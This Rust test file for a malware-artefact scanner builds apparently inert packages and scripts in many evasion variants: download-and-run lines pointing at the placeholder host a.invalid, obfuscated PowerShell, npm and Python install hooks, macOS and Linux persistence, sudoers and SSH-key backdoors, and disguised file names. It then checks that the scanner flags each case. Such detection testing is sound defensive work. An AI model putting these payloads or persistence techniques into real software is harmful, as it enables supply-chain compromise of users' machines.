//! The same conduct, told in other words: what a maker would try who has read the rules. All inert, as in `make`.

use madang_artefact::report::Verdict;

use crate::{
    make::{NODE, PYTHON, SHELL, asar, deb, macho, pe, pkg, plist, postinst, tgz, zip},
    report,
};

type Case = (&'static str, Vec<u8>);

fn one(name: &str, body: &str) -> Vec<u8> {
    zip(&[(name, body.as_bytes().to_vec())])
}

fn shell(name: &str, body: &str) -> Vec<u8> {
    one(name, &format!("{SHELL}{body}"))
}

fn app(body: &str) -> Vec<u8> {
    zip(&[(
        "resources/app.asar",
        asar(&[
            ("package.json", b"{\"name\":\"x\",\"main\":\"main.js\"}".to_vec()),
            ("main.js", format!("{NODE}{body}").into_bytes()),
        ]),
    )])
}

fn manifest(scripts: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut all = vec![(
        "package/package.json",
        format!(
            "{{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"lib/main.js\",\"scripts\":{{{scripts}}}}}"
        )
        .into_bytes(),
    )];
    all.extend(files.iter().map(|(name, body)| (*name, format!("{NODE}{body}").into_bytes())));
    tgz(&all)
}

const FETCHES: &str =
    "const h=require('https'),c=require('child_process');h.get('https://a.invalid/x',r=>c.exec(r))";

fn mac() -> Vec<Case> {
    let agent = ("./Applications/X.app/Contents/Resources/agent", macho(&["x"], &["_malloc"]));
    let helper = |body: &str| {
        ("./Applications/X.app/Contents/Resources/setup.sh", format!("{SHELL}{body}").into_bytes())
    };
    let mut binary = b"bplist00".to_vec();
    // A dictionary of three: Label, ProgramArguments, RunAtLoad.
    let mut offsets = Vec::new();
    let mut object = |bytes: &[u8], binary: &mut Vec<u8>| {
        offsets.push(binary.len() as u8);
        binary.extend_from_slice(bytes);
    };
    object(&[0xd3, 1, 2, 3, 4, 5, 6], &mut binary);
    object(b"\x55Label", &mut binary);
    object(b"\x5f\x10\x10ProgramArguments", &mut binary);
    object(b"\x59RunAtLoad", &mut binary);
    object(b"\x51x", &mut binary);
    object(&[0xa1, 7], &mut binary);
    object(&[0x09], &mut binary);
    object(b"\x5a/opt/agent", &mut binary);
    let table = binary.len() as u64;
    binary.extend(&offsets);
    binary.extend([0, 0, 0, 0, 0, 0, 1, 1]);
    binary.extend((offsets.len() as u64).to_be_bytes());
    binary.extend(0_u64.to_be_bytes());
    binary.extend(table.to_be_bytes());
    let binary_job = ("./Applications/X.app/Contents/Resources/settings.dat", binary);
    vec![
        ("path in pieces", pkg("L=/Library; D=Launch''Daemons\nfor f in x; do mv /Applications/X.app/Contents/Resources/settings \"$L/$D/$f.plist\"; done", &[("./Applications/X.app/Contents/Resources/settings", plist("x", "/opt/agent"))])),
        ("script in the payload", pkg("sh /Applications/X.app/Contents/Resources/setup.sh", &[helper("mv /Applications/X.app/Contents/Resources/x.plist /Library/LaunchDaemons/x.plist\nlaunchctl load /Library/LaunchDaemons/x.plist")])),
        ("script in the payload, by variables", pkg("A=\"/Applications/X.app/Contents\"\n. \"$A/Resources/setup.sh\"", &[helper("cp x /Library/LaunchDaemons/x.plist")])),
        ("log-in hook", pkg("defaults write com.apple.loginwindow LoginHook /Library/x/agent", &[])),
        ("log-in item by osascript", pkg("osascript -e 'tell application \"System Events\" to make login item at end with properties {path:\"/Applications/X.app\", hidden:true}'", &[])),
        ("later, by at", pkg("echo '/Library/x/agent go' | at now + 5 minutes", &[])),
        ("job as a binary property list", pkg("ditto /Applications/X.app/Contents/Resources/settings.dat /Library/LaunchAgents/x.plist", &[binary_job])),
        ("job written by PlistBuddy", pkg("/usr/libexec/PlistBuddy -c 'Add :Label string x' -c 'Add :RunAtLoad bool true' /Library/LaunchDaemons/x.plist", &[])),
        ("job written by defaults", pkg("defaults write /Library/LaunchDaemons/x.plist Label x", &[])),
        ("job written by plutil", pkg("plutil -create xml1 /Library/LaunchDaemons/x.plist", &[])),
        ("shell's own start file", pkg("echo '/Library/x/agent &' >> /etc/zshrc", &[])),
        ("periodic", pkg("cp /Library/x/run /etc/periodic/daily/500.x", &[])),
        ("emond", pkg("cp x.plist /etc/emond.d/rules/x.plist", &[])),
        ("decoded and evaluated", pkg("eval \"$(echo bXYgL2EgL0xpYnJhcnkvTGF1bmNoRGFlbW9ucy94LnBsaXN0Cg== | base64 -D)\"", &[])),
        ("here document to an interpreter", pkg("python3 - <<'EOF'\nimport shutil\nshutil.move('/a/x','/Library/LaunchDaemons/x.plist')\nEOF", &[])),
        ("package whose check runs programs", zip(&[("Distribution", b"<?xml version=\"1.0\"?><installer-gui-script minSpecVersion=\"2\"><script>function check(){ system.run('/bin/sh','-c','curl https://a.invalid/x | sh'); return true; }</script><installation-check script=\"check()\"/></installer-gui-script>".to_vec())])),
        ("job of the app itself", zip(&[("X.app/Contents/Library/LaunchDaemons/x.plist", b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>Label</key><string>x</string><key>BundleProgram</key><string>Contents/Resources/agent</string><key>RunAtLoad</key><true/></dict></plist>".to_vec()), ("X.app/Contents/MacOS/x", macho(&["x"], &["_malloc"]))])),
        ("hidden by a blank of no width", zip(&[("X.app/Contents/Resources/\u{200b}agent", macho(&["x"], &["_malloc"]))])),
        ("hidden folder", zip(&[("X.app/Contents/Resources/.lib/agent", macho(&["x"], &["_malloc"]))])),
        ("profile of a device", one("x.mobileconfig", "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.security.root</string></dict></array><key>PayloadType</key><string>Configuration</string></dict></plist>")),
        ("settings of a terminal", one("Open me.terminal", "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>CommandString</key><string>curl https://a.invalid/x | sh</string><key>RunCommandAsShell</key><true/><key>type</key><string>Window Settings</string></dict></plist>")),
        ("agent started by the app", pkg("open -g -j /Applications/X.app --args quiet\n/Applications/X.app/Contents/Resources/agent &", &[agent])),
    ]
}

fn scripts() -> Vec<Case> {
    vec![
        (
            "curl by variables",
            shell("Install.command", "C=curl\nU=https://a.invalid/i.sh\n$C -fsSL $U | $SHELL"),
        ),
        ("bash of a substitution", shell("install.sh", "bash -c \"$(curl -fsSL https://a.invalid/i.sh)\"")),
        ("bash of a process", shell("install.sh", "bash <(curl -fsSL https://a.invalid/i.sh)")),
        (
            "source of a process",
            shell("install.sh", "source /dev/stdin <<< \"$(wget -qO- https://a.invalid/i.sh)\""),
        ),
        (
            "fetched, then run",
            shell("install.sh", "curl -fsSL https://a.invalid/i -o /tmp/i\nchmod +x /tmp/i\n/tmp/i &"),
        ),
        (
            "fetched by python",
            shell(
                "install.sh",
                "python3 -c 'import urllib.request as u;exec(u.urlopen(\"https://a.invalid/i\").read())'",
            ),
        ),
        (
            "batch in pieces",
            one(
                "start.bat",
                "@echo off\r\nexit /b\r\nset a=power\r\nset b=shell\r\n%a%%b% -w hidden -c \"iex(irm https://a.invalid/x)\"\r\n",
            ),
        ),
        (
            "batch with carets",
            one("start.cmd", "@echo off\r\nexit /b\r\np^ow^ershell -c i^ex(i^rm https://a.invalid/x)\r\n"),
        ),
        (
            "certutil",
            one(
                "start.bat",
                "@echo off\r\nexit /b\r\ncertutil -urlcache -f https://a.invalid/x %TEMP%\\x.exe\r\nstart %TEMP%\\x.exe\r\n",
            ),
        ),
        (
            "bitsadmin",
            one(
                "start.bat",
                "@echo off\r\nexit /b\r\nbitsadmin /transfer j https://a.invalid/x %TEMP%\\x.exe & %TEMP%\\x.exe\r\n",
            ),
        ),
        ("mshta", one("start.bat", "@echo off\r\nexit /b\r\nmshta https://a.invalid/x.hta\r\n")),
        (
            "regsvr32",
            one(
                "start.bat",
                "@echo off\r\nexit /b\r\nregsvr32 /s /n /u /i:https://a.invalid/x.sct scrobj.dll\r\n",
            ),
        ),
        (
            "format operator",
            one(
                "start.ps1",
                "throw 'inert'\n& (\"{1}{0}\" -f 'ex','i') ((New-Object (\"{0}{1}\" -f 'Net.Web','Client')).(\"{0}{1}\" -f 'Download','String')('https://a.invalid/x'))\n",
            ),
        ),
        (
            "back ticks",
            one(
                "start.ps1",
                "throw 'inert'\nI`E`X (New-Object Net.W`ebClient).Downlo`adString('https://a.invalid/x')\n",
            ),
        ),
        (
            "letters joined",
            one(
                "start.ps1",
                "throw 'inert'\n$c=-join([char[]](105,101,120));&$c (irm https://a.invalid/x)\n",
            ),
        ),
        (
            "script host",
            one(
                "Quote.js",
                "throw 1;var s=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','https://a.invalid/x',false);s.Run('x')",
            ),
        ),
        (
            "application of HTML",
            one(
                "Quote.hta",
                "<html><script language=\"VBScript\">Stop\nSet s=CreateObject(\"WScript.Shell\")\ns.Run \"powershell -c iex(irm https://a.invalid/x)\"</script></html>",
            ),
        ),
        (
            "shortcut of the web",
            one("Quote.url", "[InternetShortcut]\r\nURL=file://a.invalid/share/x.exe\r\n"),
        ),
        (
            "desktop entry",
            one(
                "Readme.desktop",
                "[Desktop Entry]\nType=Application\nName=Readme\nIcon=x-office-document\nExec=sh -c 'curl https://a.invalid/x | sh'\n",
            ),
        ),
        (
            "spreadsheet of text",
            one("prices.csv", "a,b\n=cmd|'/c powershell iex(irm https://a.invalid/x)'!A1,2\n"),
        ),
        (
            "picture with a script",
            one(
                "logo.svg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='data:application/zip;base64,'+atob('x');var b=new Blob([1]);var a=URL.createObjectURL(b);c.download='x';c.click()</script></svg>",
            ),
        ),
    ]
}

fn packages() -> Vec<Case> {
    let hidden = "const d=a=>a.map(c=>String.fromCharCode(c^7)).join('');const m=require(d([100,111,110,107,99,88,119,117,104,100,98,116,116]));m[d([98,127,98,100])](d([1,2]))";
    vec![
        ("hook by another script", manifest("\"postinstall\":\"npm run setup\",\"setup\":\"node lib/setup.js\"", &[("package/lib/setup.js", FETCHES)])),
        ("hook that runs the package", manifest("\"postinstall\":\"node .\"", &[("package/lib/main.js", FETCHES)])),
        ("hook by a folder", manifest("\"install\":\"node ./lib\"", &[("package/lib/index.js", FETCHES)])),
        ("hook by an option", manifest("\"preinstall\":\"node -r ./lib/a.js -e 0\"", &[("package/lib/a.js", FETCHES)])),
("hook prepare", zip(&[("task/package.json", b"{\"name\":\"x\",\"scripts\":{\"prepare\":\"node lib/a.js\"}}".to_vec()), ("task/lib/a.js", format!("{NODE}{FETCHES}").into_bytes())])),
        ("hook that starts a shell script", manifest("\"postinstall\":\"sh ./lib/a.sh\"", &[("package/lib/a.sh", "curl https://a.invalid/x | sh")])),
        ("hook with names xor-ed", manifest("\"postinstall\":\"node lib/a.js\"", &[("package/lib/a.js", hidden)])),
        ("hook that forks", manifest("\"postinstall\":\"node lib/a.js\"", &[("package/lib/a.js", "const p=require('path');require('child_process').fork(p.join(__dirname,'b.js'),{detached:true})"), ("package/lib/b.js", FETCHES)])),
        ("on import", zip(&[("x-1/x/__init__.py", format!("{PYTHON}import urllib.request,subprocess,tempfile,os\np=tempfile.gettempdir()+'/x'\nopen(p,'wb').write(urllib.request.urlopen('https://a.invalid/x').read())\nos.chmod(p,0o755)\nsubprocess.Popen([p])\n").into_bytes())])),
        ("path file that imports", zip(&[("x.pth", b"import x_start\n".to_vec()), ("x_start.py", format!("{PYTHON}import urllib.request,os\nos.system(urllib.request.urlopen('https://a.invalid/x').read().decode())\n").into_bytes())])),
        ("sitecustomize", zip(&[("sitecustomize.py", format!("{PYTHON}import urllib.request,os\nos.system(urllib.request.urlopen('https://a.invalid/x').read().decode())\n").into_bytes())])),
        ("setup that imports", tgz(&[("x-1/setup.py", format!("{PYTHON}from setuptools import setup\nfrom x import boot\nboot.go()\nsetup(name='x')\n").into_bytes()), ("x-1/x/boot.py", format!("{PYTHON}import urllib.request,subprocess\ndef go(): subprocess.run(urllib.request.urlopen('https://a.invalid/x').read())\n").into_bytes())])),
        ("setup with a command class", tgz(&[("x-1/setup.py", format!("{PYTHON}from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n  def run(self):\n    import urllib.request,subprocess\n    subprocess.Popen(urllib.request.urlopen('https://a.invalid/x').read())\nsetup(cmdclass={{'install':I}})\n").into_bytes())])),
        ("app by its own network", app("const {net}=require('electron');const f=require('fs'),c=require('child_process'),o=require('os'),p=require('path');net.request('https://a.invalid/x').on('response',r=>{f.writeFileSync(p.join(o.tmpdir(),'u'),r,{mode:0o755});c.spawn(p.join(o.tmpdir(),'u'))})")),
        ("app by curl", app("require('child_process').exec('curl -s https://a.invalid/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x &')")),
        ("app by fetch and eval", app("fetch('https://a.invalid/u').then(r=>r.text()).then(t=>(0,eval)(Buffer.from(t,'base64').toString()))")),
        ("app by a worker", app("const w=require('worker_threads');fetch('https://a.invalid/u').then(r=>r.text()).then(t=>new w.Worker(t,{eval:true}))")),
        ("app by a module from memory", app("const M=require('module');fetch('https://a.invalid/u').then(r=>r.text()).then(t=>{const m=new M('');m._compile(t,'x')})")),
        ("app by WebAssembly's neighbour", app("const v=require('vm');fetch('https://a.invalid/u').then(r=>r.text()).then(t=>new v.Script(t).runInThisContext())")),
    ]
}

fn linux_and_windows() -> Vec<Case> {
    let unit = |line: &str| {
        format!("[Service]\nExecStart={line}\n[Install]\nWantedBy=multi-user.target\n").into_bytes()
    };
    let run = ("./opt/x/run.sh", format!("{SHELL}exec /opt/x/.lib/agent go\n").into_bytes());
    let agent = ("./opt/x/.lib/agent", macho(&["x"], &["_malloc"]));
    vec![
        (
            "unit starts a wrapper",
            deb(&[], &[("./etc/systemd/system/x.service", unit("/opt/x/run.sh")), run, agent]),
        ),
        (
            "unit starts a shell",
            deb(
                &[],
                &[("./lib/systemd/system/x.service", unit("/bin/sh -c 'curl https://a.invalid/x | sh'"))],
            ),
        ),
        (
            "dispatcher",
            deb(
                &[],
                &[("./etc/NetworkManager/dispatcher.d/99-x", b"#!/bin/sh\nexit 0\n/opt/x/.agent\n".to_vec())],
            ),
        ),
        (
            "message of the day",
            deb(&[], &[("./etc/update-motd.d/99-x", b"#!/bin/sh\nexit 0\n/opt/x/.agent &\n".to_vec())]),
        ),
        ("preload", postinst("echo /opt/x/x.so >> /etc/ld.so.preload")),
        ("right to all", postinst("echo 'x ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x")),
        ("set-uid", postinst("chmod 4755 /opt/x/agent")),
        ("rc.local", postinst("sed -i '$i /opt/x/agent &' /etc/rc.local")),
        (
            "key of a stranger",
            postinst(
                "mkdir -p /var/lib/x/.ssh; echo 'ssh-ed25519 AAAA x' >> /var/lib/x/.ssh/authorized_keys",
            ),
        ),
        (
            "program called a library's neighbour",
            zip(&[
                ("Reader/reader.exe", pe(&["x"], "version.dll", &["GetFileVersionInfoA"], None)),
                (
                    "Reader/version.dll",
                    pe(
                        &["CreateProcessA"],
                        "KERNEL32.dll",
                        &["CreateProcessA", "WriteProcessMemory", "CreateRemoteThread"],
                        None,
                    ),
                ),
            ]),
        ),
        (
            "blanks before the ending",
            zip(&[(
                "Agenda.pdf                                                   .exe",
                pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None),
            )]),
        ),
        ("two endings", zip(&[("Agenda.pdf.exe", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))])),
        ("saver of screens", zip(&[("Photo.scr", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))])),
        (
            "letters that look alike",
            zip(&[("Agenda.\u{0440}df.exe", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))]),
        ),
    ]
}

#[test]
fn other_words_for_the_same_conduct_are_looked_at() {
    let cases: Vec<Case> = [mac(), scripts(), packages(), linux_and_windows()].concat();
    let missed: Vec<&str> = cases
        .iter()
        .filter(|(_, bytes)| report(bytes).verdict == Verdict::Clear)
        .map(|(name, _)| *name)
        .collect();
    assert_eq!(missed, [""; 0], "of {}", cases.len());
}
